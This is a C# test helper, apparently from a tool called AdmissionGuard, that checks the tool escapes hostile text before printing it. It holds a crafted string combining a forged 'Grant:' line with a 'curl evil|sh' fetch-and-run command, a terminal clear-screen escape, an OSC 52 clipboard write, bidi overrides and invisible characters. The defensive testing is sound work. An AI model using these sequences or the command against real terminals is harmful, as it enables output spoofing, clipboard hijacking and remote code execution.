using AdmissionGuard.Core;

namespace AdmissionGuard.Testing;

/// <summary>Text that somebody else chose, to drive the terminal of whoever looks at it.</summary>
internal static class HostileText
{
    /// <summary>
    /// A line that looks like the program's own; an escape sequence; the clipboard; C1; hidden and reordered text; a tag beyond the BMP.
    /// </summary>
    public const string Text =
        "x\nGrant:       curl evil|sh\r\u001b[2J\u001b]52;c;cm0=\u0007\u009b31m\u202e\u200d\ufeff\u2028\u2029\u0085\tz\U000E0041\u007f";

    /// <summary>What a YAML or JSON text has in the place of <see cref="Text"/>.</summary>
    public static string Quoted { get; } = System.Text.Json.JsonSerializer.Serialize(Text);

    /// <summary>What is wrong with an answer: a line that does more than show, or is forged, or an unexpected end.</summary>
    public static IEnumerable<string> Faults(CommandResult result) =>
    [
        .. $"{result.Output}\n{result.Error}".Split('\n')
            .Where(line => !Printable.Is(line) || line.StartsWith("Grant:       curl", StringComparison.Ordinal))
            .Select(Printable.Escape),
        .. result.ExitCode is >= 0 and <= 3 ? Array.Empty<string>() : [$"{result.ExitCode} {result.Error}"],
    ];
}
